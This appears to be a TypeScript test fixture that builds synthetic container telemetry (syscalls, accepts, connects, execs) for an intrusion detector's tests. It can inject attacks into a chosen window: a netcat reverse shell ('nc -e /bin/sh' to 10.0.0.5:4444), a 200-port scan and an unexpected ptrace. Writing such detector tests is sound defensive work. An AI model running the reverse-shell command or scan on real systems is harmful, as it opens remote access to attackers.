/**
 * Small, realistic-looking captures for the detector's tests and bench: a web server (`web`,
 * accepts on port 80, reads a bind-mounted directory, a periodic health check exec) and a worker
 * (`worker`, connects to a database, compresses files), one row set per second with seeded noise.
 * An attack can be injected into one window: a reverse shell (exec of nc with -e /bin/sh), a port
 * scan of one host, and a syscall the baseline never made (ptrace).
 */
import { writeCaptureFromRows, type Row } from '../support/fixture.js';
import { mulberry32 } from '../../src/detect/prng.js';
import { syscallNumber } from '../../src/syscalls/index.js';

export const WEB_ID = 'd1'.repeat(32);
export const WORKER_ID = 'd2'.repeat(32);
const WEB_CG = 8101n;
const WORKER_CG = 8102n;
const SEC = 1_000_000_000n;

export interface WorkloadOptions {
  startNs: bigint;
  seconds: number;
  seed: number;
  /** Window index (10 s windows from startNs) into which the attack is injected in `web`. */
  attackWindow?: number;
  attack?: Array<'reverse-shell' | 'port-scan' | 'new-syscall'>;
  hostname?: string;
}

const nr = (name: string) => {
  const n = syscallNumber('x86_64', name);
  if (n === undefined) throw new Error(`no syscall ${name}`);
  return n;
};

export function workloadRows(o: WorkloadOptions): Row[] {
  const random = mulberry32(o.seed);
  const noisy = (base: number) => BigInt(Math.max(0, Math.round(base * (0.8 + 0.4 * random()))));
  const rows: Row[] = [];
  const container = (id: string, cg: bigint, name: string, ip: string): Row => ({
    kind: 'container', ts: o.startNs, cgroup_id: cg, container_id: id, container_name: name, image: `contxray/${name}:test`,
    runtime: 'docker', cgroup_path: `/docker/${id}`, ips: [ip], labels: { app: name }, started_at: o.startNs - SEC, first_seen: o.startNs,
    last_seen: o.startNs + BigInt(o.seconds) * SEC,
  });
  rows.push(container(WEB_ID, WEB_CG, 'web', '172.18.0.2'), container(WORKER_ID, WORKER_CG, 'worker', '172.18.0.4'));
  const sys = (ts: bigint, cg: bigint, pid: number, comm: string, name: string, count: bigint, errors = 0n): Row => ({
    kind: 'syscall', ts, cgroup_id: cg, pid, tid: pid, comm, syscall_nr: nr(name), compat: false, filtered: true, count, errors, denied: 0n, denied_errno: 0,
  });
  let cookie = 1n;
  let pid = 1000;
  for (let s = 0; s < o.seconds; s++) {
    const ts = o.startNs + BigInt(s) * SEC;
    // web: an event loop serving a few requests a second
    const requests = 3 + Math.floor(random() * 3);
    for (const [name, base] of [['epoll_wait', 120], ['read', 60], ['write', 40], ['accept4', requests], ['close', requests + 4], ['openat', requests], ['fstat', requests], ['sendfile', requests]] as const) {
      rows.push(sys(ts, WEB_CG, 100, 'httpd', name, noisy(base)));
    }
    for (let r = 0; r < requests; r++) {
      rows.push({ kind: 'accept', ts: ts + BigInt(r) * 1000n, cgroup_id: WEB_CG, pid: 100, tid: 100, comm: 'httpd', uid: 0, ret: 4n, protocol: 6, family: 2, laddr: '172.18.0.2', lport: 80, raddr: '172.18.0.3', rport: 40000 + ((s * 7 + r) % 20000), sock_cookie: cookie++ });
      rows.push({ kind: 'open', ts: ts + BigInt(r) * 1000n + 1n, cgroup_id: WEB_CG, pid: 100, tid: 100, comm: 'httpd', uid: 0, syscall_nr: nr('openat'), path: `/srv/www/page${r % 3}.html`, open_flags: 0, fs_type: 'ext4', fs_magic: 0xef53n, ret: 5n, truncated: false });
    }
    if (s % 5 === 0) {
      const p = pid++;
      rows.push({ kind: 'fork', ts: ts + 5000n, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'httpd', ppid: 100 });
      rows.push({ kind: 'exec', ts: ts + 6000n, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'healthcheck', ppid: 100, uid: 0, filename: '/usr/local/bin/healthcheck', argv: ['healthcheck', '--quiet'], truncated: false });
      rows.push({ kind: 'exit', ts: ts + 9000n, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'healthcheck', exit_code: 0 });
      rows.push(sys(ts, WEB_CG, p, 'healthcheck', 'execve', 1n), sys(ts, WEB_CG, p, 'healthcheck', 'mmap', noisy(20)), sys(ts, WEB_CG, p, 'healthcheck', 'exit_group', 1n));
    }
    // worker: database queries and file compression
    for (const [name, base] of [['futex', 80], ['read', 90], ['write', 70], ['sendto', 10], ['recvfrom', 10], ['openat', 6], ['close', 8], ['lseek', 12]] as const) {
      rows.push(sys(ts, WORKER_CG, 200, 'worker', name, noisy(base)));
    }
    if (s % 2 === 0) {
      rows.push({ kind: 'connect', ts: ts + 100n, cgroup_id: WORKER_CG, pid: 200, tid: 200, comm: 'worker', uid: 1000, ret: 0n, protocol: 6, family: 2, laddr: '172.18.0.4', lport: 50000 + s, raddr: '172.18.0.9', rport: 5432, sock_cookie: cookie++ });
      rows.push({ kind: 'open', ts: ts + 200n, cgroup_id: WORKER_CG, pid: 200, tid: 200, comm: 'worker', uid: 1000, syscall_nr: nr('openat'), path: `/data/in/batch-${s % 4}.csv`, open_flags: 0, fs_type: 'ext4', fs_magic: 0xef53n, ret: 6n, truncated: false });
    }
  }
  if (o.attackWindow !== undefined) {
    const ts = o.startNs + BigInt(o.attackWindow * 10 + 3) * SEC;
    const attack = new Set(o.attack ?? ['reverse-shell', 'port-scan', 'new-syscall']);
    const p = 6666;
    if (attack.has('reverse-shell')) {
      rows.push({ kind: 'fork', ts, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'httpd', ppid: 100 });
      rows.push({ kind: 'exec', ts: ts + 1000n, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'nc', ppid: 100, uid: 0, filename: '/bin/nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.5', '4444'], truncated: false });
      rows.push({ kind: 'connect', ts: ts + 2000n, cgroup_id: WEB_CG, pid: p, tid: p, comm: 'nc', uid: 0, ret: 0n, protocol: 6, family: 2, laddr: '172.18.0.2', lport: 39999, raddr: '10.0.0.5', rport: 4444, sock_cookie: cookie++ });
      rows.push(sys(ts, WEB_CG, p, 'nc', 'execve', 1n), sys(ts, WEB_CG, p, 'nc', 'dup2', 3n));
    }
    if (attack.has('port-scan')) {
      for (let port = 1; port <= 200; port++) {
        rows.push({ kind: 'connect', ts: ts + 5000n + BigInt(port), cgroup_id: WEB_CG, pid: p + 1, tid: p + 1, comm: 'sh', uid: 0, ret: -111n, protocol: 6, family: 2, laddr: '172.18.0.2', lport: 30000 + port, raddr: '172.18.0.9', rport: port, sock_cookie: cookie++ });
      }
      rows.push(sys(ts, WEB_CG, p + 1, 'sh', 'connect', 200n, 200n), sys(ts, WEB_CG, p + 1, 'sh', 'socket', 200n));
    }
    if (attack.has('new-syscall')) rows.push(sys(ts, WEB_CG, p + 2, 'sh', 'ptrace', 12n, 12n));
  }
  rows.push({ kind: 'stats', ts: o.startNs + BigInt(o.seconds) * SEC, stat_name: 'events.exec', stat_value: 1n });
  return rows;
}

export async function writeWorkload(path: string, o: WorkloadOptions): Promise<void> {
  await writeCaptureFromRows(path, { host: { hostname: o.hostname ?? 'detect-host' }, startedAtNs: o.startNs, rows: workloadRows(o) });
}
